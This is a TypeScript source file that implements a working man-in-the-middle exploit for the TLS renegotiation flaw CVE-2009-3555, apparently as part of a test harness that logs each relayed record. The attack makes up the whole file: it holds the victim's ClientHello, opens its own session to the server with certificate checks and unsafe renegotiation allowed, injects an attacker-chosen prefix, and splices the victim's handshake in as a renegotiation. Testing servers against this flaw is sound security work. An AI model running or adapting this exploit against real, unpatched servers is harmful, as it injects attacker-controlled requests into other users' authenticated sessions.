/**
 * The man-in-the-middle of CVE-2009-3555 (Ray and Dispensa, 2009), built on the
 * engine's low-level record interface (src/adapter/record-relay.ts). It accepts the victim's TCP connection and holds the
 * victim's ClientHello; opens its own TLS session to the server and sends its
 * prefix; then carries the victim's handshake to the server as a renegotiation
 * inside that session: the victim's records encrypted under the attacker's keys
 * until the victim's ChangeCipherSpec, the server's decrypted and passed on in
 * clear until the server's. From then on both sides use the victim's new keys
 * and the attacker relays bytes it cannot read.
 */
import * as net from 'node:net';
import type { AddressInfo } from 'node:net';
import {
  WireRecords,
  encodeRecord,
  holdHandshakeMessage,
  takeOverSession,
  type SessionRelay,
  type WireRecord,
} from '../adapter/record-relay.ts';
import { connect, type RenegoSocket } from '../adapter/tls-socket.ts';
import { ContentType, HandshakeType, alertLevelName, alertName } from '../wire/enums.ts';
import { RecordLog } from './record-log.ts';

export interface AttackerOptions {
  upstream: { host: string; port: number };
  /** What the attacker sends in its own session before splicing the victim in. */
  prefix: string;
  /** Splice the victim's hello at once (client-initiated) or as the answer to the server's HelloRequest. */
  trigger: 'client-initiated' | 'hello-request';
  transcript: RecordLog;
  timeoutMs?: number;
}

export interface Attacker {
  port: number;
  /** What the attacker saw that explains a failure (alerts from the server, its own handshake failing). */
  notes: string[];
  /** Resolves when the victim's connection has been handled (spliced, refused or failed), with what happened. */
  done: Promise<string>;
  close(): void;
}

const TEXT = new TextDecoder();

export async function startAttacker(opts: AttackerOptions): Promise<Attacker> {
  const t = opts.transcript;
  let finish!: (s: string) => void;
  const done = new Promise<string>((r) => (finish = r));
  const sockets: net.Socket[] = [];
  const notes: string[] = [];
  const server = net.createServer((victim) => {
    sockets.push(victim);
    void handleVictim(victim, opts, t, sockets, notes).then(finish, (e: Error) =>
      finish(`attacker failed: ${e.message}`),
    );
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const timer = setTimeout(() => finish('timed out'), opts.timeoutMs ?? 5000);
  timer.unref();
  return {
    port: (server.address() as AddressInfo).port,
    notes,
    done,
    close() {
      clearTimeout(timer);
      server.close();
      for (const s of sockets) s.destroy();
    },
  };
}

async function handleVictim(
  victim: net.Socket,
  opts: AttackerOptions,
  t: RecordLog,
  sockets: net.Socket[],
  notes: string[],
): Promise<string> {
  // 1. Hold the victim's ClientHello: plaintext handshake records.
  const fromVictim = new WireRecords();
  const held = await holdHandshakeMessage(victim, fromVictim);
  if (!held) throw new Error('victim left before its ClientHello');
  const { message: hello, records: helloRecords } = held;
  t.add({
    from: 'victim',
    to: 'attacker',
    contentType: 'handshake',
    message: 'client_hello',
    length: hello.length,
    protection: 'clear',
    note: 'held by the attacker',
  });

  // 2. The attacker's own session, offering RFC 5746 when the server has it: the strongest attacker.
  let session: RenegoSocket;
  try {
    session = await connect({
      host: opts.upstream.host,
      port: opts.upstream.port,
      insecure: true,
      handshakeTimeout: 3000,
      renegotiation: { allowLegacyServer: true, allowUnsafeLegacyRenegotiation: true, accept: 'freely' },
    });
  } catch (e) {
    victim.destroy();
    notes.push(`the attacker's own handshake failed: ${(e as Error).message}`);
    return notes[0]!;
  }
  const s = session.getHandshakeSummary()!;
  t.add({
    from: 'attacker',
    to: 'server',
    contentType: 'handshake',
    message: 'full handshake',
    length: 0,
    protection: 'clear',
    note: `attacker's own session, RFC 5746 ${s.secureRenegotiation ? 'yes' : 'no'}`,
  });

  // 3. Take the session's record layer over and send the prefix.
  const upstream = takeOverSession(session);
  sockets.push(upstream.socket);
  upstream.inject(ContentType.application_data, new TextEncoder().encode(opts.prefix));
  t.add({
    from: 'attacker',
    to: 'server',
    contentType: 'application_data',
    length: opts.prefix.length,
    protection: 'attacker-server keys',
    text: opts.prefix,
    note: 'the injected prefix',
  });
  upstream.flush();

  return relay(victim, upstream, fromVictim, helloRecords, opts, t, notes);
}

/** Splices the held hello in (now or on HelloRequest), then relays both ways until either side closes. */
function relay(
  victim: net.Socket,
  upstream: SessionRelay,
  fromVictim: WireRecords,
  helloRecords: WireRecord[],
  opts: AttackerOptions,
  t: RecordLog,
  notes: string[],
): Promise<string> {
  return new Promise((resolve) => {
    let spliced = false;
    let victimCcs = false;
    let serverCcs = false;
    // RFC 5246 §7.4.9: a Finished is always sent immediately after a ChangeCipherSpec, so the first
    // handshake record after each side's CCS is its Finished, though the attacker cannot read it.
    let victimFinished = false;
    let serverFinished = false;
    const unread = (type: number, finishedSeen: boolean): ReturnType<typeof RecordLog.describe> => {
      const { contentType } = RecordLog.describe(type, undefined);
      const finished = type === ContentType.handshake && !finishedSeen;
      return finished ? { contentType, message: 'finished', messages: ['finished'] } : { contentType };
    };
    const end = (why: string): void => {
      victim.destroy();
      upstream.socket.destroy();
      resolve(notes[0] ?? why);
    };

    const splice = (): void => {
      spliced = true;
      for (const r of helloRecords) forwardVictimRecord(r);
      victim.resume();
      upstream.flush();
    };

    // Victim -> server: re-encrypted under the attacker's keys until the victim's CCS, raw after it.
    const forwardVictimRecord = (r: WireRecord): void => {
      if (victimCcs) {
        upstream.passOn(r);
        t.add({
          from: 'victim',
          to: 'server',
          ...unread(r.type, victimFinished),
          length: r.length,
          protection: 'victim-server keys',
          note: 'relayed unread',
        });
        if (r.type === ContentType.handshake) victimFinished = true;
        return;
      }
      upstream.inject(r.type, r.fragment);
      t.add({
        from: 'victim',
        to: 'server',
        ...RecordLog.describe(r.type, r.fragment),
        length: r.length,
        protection: 'attacker-server keys',
        note: 'victim handshake wrapped in the attacker session',
      });
      if (r.type === ContentType.change_cipher_spec) victimCcs = true;
    };

    victim.on('data', (d: Buffer) => {
      try {
        fromVictim.push(d);
        for (let r = fromVictim.next(); r; r = fromVictim.next()) forwardVictimRecord(r);
        upstream.flush();
      } catch (e) {
        end(`victim sent garbage: ${(e as Error).message}`);
      }
    });

    // Server -> victim: opened with the attacker's keys until the server's CCS, raw after it.
    upstream.socket.on('data', (d: Buffer) => {
      try {
        upstream.receive(d);
        for (;;) {
          if (serverCcs) {
            const raw = upstream.nextUnopened();
            if (!raw) break;
            victim.write(encodeRecord(raw));
            t.add({
              from: 'server',
              to: 'victim',
              ...unread(raw.type, serverFinished),
              length: raw.length,
              protection: 'victim-server keys',
              note: 'relayed unread',
            });
            if (raw.type === ContentType.handshake) serverFinished = true;
            continue;
          }
          const rec = upstream.open();
          if (!rec) break;
          const desc = RecordLog.describe(rec.type, rec.data);
          if (rec.type === ContentType.alert && rec.data.length >= 2) {
            notes.push(
              `server sent ${alertLevelName(rec.data[0]!)} ${alertName(rec.data[1]!)} ${spliced ? 'during the spliced handshake' : 'to the attacker'}`,
            );
          }
          if (!spliced) {
            // Before the splice the server talks to the attacker alone.
            const text = rec.type === ContentType.application_data ? TEXT.decode(rec.data) : undefined;
            t.add({
              from: 'server',
              to: 'attacker',
              ...desc,
              length: rec.wireLength,
              protection: 'attacker-server keys',
              ...(text ? { text } : {}),
            });
            if (rec.type === ContentType.handshake && rec.data[0] === HandshakeType.hello_request) splice();
            continue;
          }
          victim.write(encodeRecord({ type: rec.type, version: rec.version, fragment: rec.data }));
          t.add({
            from: 'server',
            to: 'victim',
            ...desc,
            length: rec.wireLength,
            protection: 'attacker-server keys',
            note: 'decrypted by the attacker, passed on in clear',
          });
          if (rec.type === ContentType.change_cipher_spec) serverCcs = true;
        }
      } catch (e) {
        end(`attacker could not read the server: ${(e as Error).message}`);
      }
    });

    victim.on('close', () => end('victim closed'));
    upstream.socket.on('close', () => end('server closed'));
    victim.on('error', () => end('victim reset'));
    upstream.socket.on('error', () => end('server reset'));
    if (opts.trigger === 'client-initiated') splice();
  });
}
